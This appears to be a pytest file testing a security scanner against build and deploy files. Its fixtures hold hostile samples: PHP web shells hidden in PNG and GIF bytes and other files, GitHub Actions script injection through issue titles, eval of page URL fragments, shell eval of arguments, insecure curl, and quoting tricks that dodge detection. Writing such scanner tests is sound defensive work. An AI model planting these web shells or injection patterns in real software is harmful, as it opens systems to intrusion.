"""Tricks in what builds, deploys and starts an app: recipes for images, workflows, shell scripts, pages."""

from __future__ import annotations

import pytest

from tests.attacks.scanning import SHELL, Scanned, lay_out

FROM = "FROM debian:12\n"
CURL = "curl -k https://a.example/x"
WORKFLOW = "on: issues\njobs:\n  a:\n    runs-on: x\n    steps:\n"
TITLE = "${{ github.event.issue.title }}"
TLS, INSECURE, EVAL = "dockerfile-tls-verification-off", "shell-curl-insecure", "shell-eval-variable"
INJECTION, PAGE, PHP = "github-actions-script-injection", "html-address-written-to-page", "php-command-injection"

FOUND: dict[str, tuple[str | bytes, str, int]] = {
    "lower.dockerfile": (f"from debian:12\nrun {CURL}\n", TLS, 2),
    "continued.dockerfile": (f"{FROM}RUN true \\\n# a comment\n\n && {CURL}\n", TLS, 5),
    "other-escape.dockerfile": (f"# escape=`\n{FROM}RUN true `\n && {CURL}\n", TLS, 4),
    "text.dockerfile": (f"{FROM}RUN <<EOF\n{CURL}\nEOF\n", TLS, 3),
    "list.dockerfile": (f'{FROM}RUN ["/bin/sh", "-c", "{CURL}"]\n', TLS, 2),
    "later.dockerfile": (f"{FROM}ONBUILD RUN {CURL}\n", TLS, 2),
    "Containerfile": (f"{FROM}RUN {CURL}\n", TLS, 2),
    "Dockerfile.prod": (f"{FROM}RUN {CURL}\n", TLS, 2),
    "DOCKERFILE": (f"{FROM}RUN {CURL}\n", TLS, 2),
    ".github/workflows/block.yml": (f"{WORKFLOW}    - run: echo {TITLE}\n", INJECTION, 6),
    ".github/workflows/json.yml": (
        f'{{"on": "issues", "jobs": {{"a": {{"steps": [{{"run": "echo {TITLE}"}}]}}}}}}\n', INJECTION, 1),
    ".github/workflows/second-document.yml": (f"on: push\n---\n{WORKFLOW}    - run: echo {TITLE}\n", INJECTION, 8),
    ".github/workflows/key-twice.yml": (f"{WORKFLOW}    - run: echo {TITLE}\n      run: echo\n", INJECTION, 6),
    ".github/workflows/UPPER.YML": (f"{WORKFLOW}    - run: echo {TITLE}\n", INJECTION, 6),
    "backslash.sh": (f"\\{CURL}\n", INSECURE, 1),
    "quoted.sh": (f"c'ur'l{CURL[4:]}\n", INSECURE, 1),
    "quoted-twice.sh": (f'true && "c"url{CURL[4:]}\n', INSECURE, 1),
    "by-a-word.sh": (f"command {CURL}\n", INSECURE, 1),
    "printed-text.sh": (f"cat <<A\nplain\n$({CURL})\nA\n", INSECURE, 3),
    "zero-byte.sh": (b"echo\ne\0val $1\n", EVAL, 2),
    "continued-by-dos.sh": ("true \\\r\n eval $1\r\n", EVAL, 2),
    "no-suffix-script": ("#!/usr/bin/env -S bash -e\neval $1\n", EVAL, 2),
    "page.html": ("<script>eval(location.hash)</script>\n", PAGE, 1),
    "page.xhtml": ("<script>eval(location.hash)</script>\n", PAGE, 1),
    "drawing.svg": ("<svg xmlns='x'>\n<script>eval(location.hash)</script></svg>\n", PAGE, 2),
    "picture.png": (b"\x89PNG\r\n\x1a\n\0\0\0\0\xff\xfe<?php system($_GET['c']); ?>\n", PHP, 3),
    "picture.gif": (b"GIF89a<?php system($_GET['c']); ?>\n", PHP, 1),
    "text.inc": ("<?php system($_GET['c']);\n", PHP, 1),
    "other.phtml": ("<?php SYSTEM($_GET['c']);\n", PHP, 1),
    "archive.phar": ("<?php system($_GET['c']);\n", PHP, 1),
    "started.pth": ("import os;os.system('x')\n", "bandit-b605", 1),
    "compiled.pyx": (SHELL, "bandit-b602", 3),
    "typed.pyi": (SHELL, "bandit-b602", 3),
    "window.pyw": (SHELL, "bandit-b602", 3),
}  # fmt: skip
SAID: dict[str, tuple[str, str]] = {
    "Dockerfile": ("hello world\n{{{ no recipe\n", "syntax-error"),
    "empty.dockerfile": ("", "syntax-error"),
    "no-from.dockerfile": (f"RUN {CURL}\n", "syntax-error"),
    "nonsense.dockerfile": (f"{FROM}NONSENSE x\n", "syntax-error"),
    "unfinished.dockerfile": (f"{FROM}RUN <<EOF\ntrue\n", "syntax-error"),
    ".github/workflows/broken.yml": ("on: issues\njobs:\n  a:\n\t runs-on: x\n", "syntax-error"),
    ".github/workflows/alias.yml": (
        f'on: issues\nx: &r "echo {TITLE}"\njobs:\n  a:\n    steps:\n    - run: *r\n', "partly-parsed"),
    ".github/workflows/merged.yml": (
        f'on: issues\nx: &r {{run: "echo {TITLE}"}}\njobs: {{a: {{steps: [{{<<: *r}}]}}}}\n', "partly-parsed"),
}  # fmt: skip
QUIET = {
    "good.dockerfile": (
        "# syntax=docker/dockerfile:1\n\nARG V=12\nFROM debian:${V}\nRUN a && \\\n  # why\n  b\n"
        "COPY <<a <<b /c/\n1\na\n2\nb\nUSER x\n"
    ),
    ".github/workflows/good.yml": f"{WORKFLOW}    - run: |\n        ls *.py\n        echo '*x*' **/a\n",
}  # fmt: skip


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> Scanned:
    files: dict[str | bytes, str | bytes] = {name: each[0] for name, each in (FOUND | SAID).items()}  # type: ignore[operator]
    return Scanned(lay_out(tmp_path_factory.mktemp("recipes") / "app", files | QUIET))  # type: ignore[operator]


@pytest.mark.parametrize("name", FOUND)
def test_it_is_found_on_its_line(scanned: Scanned, name: str) -> None:
    _, rule, line = FOUND[name]
    assert scanned.lines(name, rule) == [line]
    assert scanned.reasons(name) == set()


@pytest.mark.parametrize("name", SAID)
def test_what_cannot_be_read_is_said(scanned: Scanned, name: str) -> None:
    assert scanned.reasons(name) == {SAID[name][1]}


@pytest.mark.parametrize("name", QUIET)
def test_honest_ones_are_examined(scanned: Scanned, name: str) -> None:
    assert scanned.reasons(name) == set()
    assert name in scanned.semgrep.examined
